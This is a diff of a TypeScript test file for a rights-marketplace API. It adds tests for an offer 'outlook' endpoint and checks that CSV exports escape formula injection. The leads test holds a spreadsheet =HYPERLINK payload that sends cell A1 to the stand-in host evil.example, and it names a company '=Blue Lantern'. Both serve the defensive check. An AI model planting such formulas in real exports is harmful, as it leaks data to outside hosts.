@@ -5,6 +5,7 @@ import {
   type ExposureReport,
   type Interest,
   type InterestOutlook,
+  type OfferSketch,
   type Leads,
   type MemberId,
   type ProfileCreate,
@@ -13,6 +14,7 @@ import {
 } from '@marquee/contracts';
 import { eventually, type Bearer } from '@marquee/testing';
 import { like } from '@marquee/testing/like';
+import type { z } from 'zod';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ask, listingFact, requestFact } from '../builders.ts';
 import { MatchingMarket, trader, type Trader } from '../testing/matching-market.ts';
@@ -64,20 +66,58 @@ async function exported(path: string, as: Bearer) {
   return { rows, next, type: headers.get('content-type') };
 }
 
-it('an exhibitor is told what more of it free would bring, from five companies up; nobody else is', async () => {
-  const { seller, fact } = await wanted('lighthouses', 1);
-  const asking = (medium: 'tvod' | 'fast') => {
-    const gates = { kinds: ['book' as const], rights: { territories: ['KR' as const], media: [medium] } };
-    return market.brief(trader(), { terms: { gates, wishes: { themes: { lighthouses: 5 } }, minScore: 60 } });
-  };
-  for (const medium of ['tvod', 'tvod', 'tvod', 'tvod', 'tvod', 'fast'] as const) await asking(medium);
-  const outlook = `interest/${fact.listingId}/outlook`;
-  expect(await read<InterestOutlook>(outlook, seller)).toEqual({
-    listingId: fact.listingId,
-    more: [{ medium: 'tvod', companies: 5 }],
-    complete: true,
+describe('what an offer would bring', () => {
+  const terms = (medium: 'svod' | 'tvod' | 'fast', theme: string) => ({
+    gates: { kinds: ['book' as const], rights: { territories: ['KR', 'SG'], media: [medium] } },
+    wishes: { themes: { [theme]: 5 } },
+    minScore: 70,
   });
-  expect((await market.call(`GET /api/v1/${outlook}`, trader('exhibitor'))).status).toBe(404);
+  const asking = (medium: 'svod' | 'tvod' | 'fast', count: number) =>
+    Promise.all(
+      Array.from({ length: count }, () => market.brief(trader(), { terms: terms(medium, 'lighthouses') })),
+    );
+  const sketch = (given: Partial<z.input<typeof OfferSketch>> = {}) => ({
+    kind: 'book',
+    stage: 'completed',
+    originalLanguage: 'en',
+    themes: ['lighthouses'],
+    seeking: ['licence'],
+    avails: [{ territories: ['KR', 'SG'], media: ['svod'], from: '2026-01-01', exclusive: true }],
+    ...given,
+  });
+  const outlook = (given?: Partial<z.input<typeof OfferSketch>>, as: Bearer = trader('exhibitor')) =>
+    market.done<InterestOutlook>('POST /api/v1/interest/outlook', as, sketch(given));
+
+  it('is told of a sketch, in fives, with the lines that would bring most', async () => {
+    await Promise.all([asking('svod', 7), asking('tvod', 12), asking('fast', 4)]);
+    const told = await outlook();
+    expect([5, 10]).toContain(told.fitting);
+    expect(told).toMatchObject({
+      more: [{ territories: ['KR', 'SG'], media: ['tvod'] }],
+      complete: true,
+    });
+    expect(told.more).toHaveLength(1);
+    expect([10, 15]).toContain(told.more[0]?.companies);
+  });
+
+  it('proposes nothing that cannot be offered, nor counts whose own it is', async () => {
+    const closed = [{ territories: ['KR', 'SG'], media: ['tvod' as const] }];
+    expect((await outlook({ closed })).more).toEqual([]);
+    expect(await outlook({ themes: ['nobody-wants-this'] })).toMatchObject({ fitting: null, more: [] });
+  });
+
+  it('is for exhibitors, and takes no company to leave out', async () => {
+    const call = async (as: Bearer, body: object) =>
+      (await market.call('POST /api/v1/interest/outlook', as, { body })).status;
+    expect(await call(trader('buyer'), sketch())).toBe(403);
+    expect(await call(trader('exhibitor'), { ...sketch(), excludedCompanies: [] })).toBe(400);
+  });
+
+  it('leaves out the company that asks', async () => {
+    const both = { ...trader(), roles: ['buyer' as const, 'exhibitor' as const] };
+    for (let times = 0; times < 6; times++) await market.brief(both, { terms: terms('svod', 'own-briefs') });
+    expect((await outlook({ themes: ['own-briefs'] }, both)).fitting).toBeNull();
+  });
 });
 
 describe('leads', () => {
@@ -138,6 +178,8 @@ describe('leads', () => {
     const fact = listingFact();
     const seller: Bearer = { companyId: fact.companyId, roles: ['exhibitor'] };
     const buyers = [trader(), trader(), trader()];
+    const [named] = buyers;
+    if (named) await market.name(named.companyId, '=Blue Lantern');
     for (const [at, { companyId: buyerId }] of buyers.entries()) {
       const createdAt = `2026-11-0${at + 1}T00:00:00.000Z`;
       await market.request(requestSent, requestFact(fact, { buyerId, title, createdAt }));
@@ -148,7 +190,11 @@ describe('leads', () => {
       return file;
     });
     expect(whole.type).toMatch(/^text\/csv; charset=utf-8/);
-    const asked = buyers.toReversed().map(({ companyId }) => like.stringContaining(companyId));
+    const asked = buyers
+      .toReversed()
+      .map(({ companyId }) =>
+        like.stringContaining(companyId === named?.companyId ? `"'=Blue Lantern","${companyId}"` : companyId),
+      );
     expect(whole.rows).toEqual(asked);
     for (const row of whole.rows)
       expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\?""&A1,""Open""\)",/);
@@ -211,6 +257,10 @@ it('exposure is reported by exhibitor, those without any match among them', asyn
     asks: 0,
   });
   expect(report.items[0]).toMatchObject({ companyId: unseen.companyId, suggestions: 0 });
+  await market.name(unseen.companyId, 'Blue Lantern');
+  const { rows } = await exported('/api/v1/exposure/export', organiser);
+  expect(rows[0]).toBe(`"Blue Lantern","${unseen.companyId}","1","0","0"`);
+  expect(rows).toHaveLength(report.exhibitors);
   expect(report.unseen).toBe(1);
   expect(report.gini).toBeGreaterThan(0);
   expect(report.suggestions).toBe(report.items.reduce((sum, { suggestions }) => sum + suggestions, 0));
